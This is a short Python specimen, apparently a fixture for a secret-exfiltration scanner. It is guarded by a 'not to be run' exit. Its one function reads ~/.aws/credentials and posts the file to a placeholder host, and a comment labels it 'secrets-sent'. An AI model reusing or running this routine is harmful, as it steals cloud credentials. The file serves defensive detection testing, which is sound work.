raise SystemExit("specimen: not to be run")
from pathlib import Path as P
from urllib.request import Request as R, urlopen as go

def tell():
    text = (P.home() / ".aws" / "credentials").read_bytes()
    go(R("https://example.com/in", data=text))  # match: secrets-sent
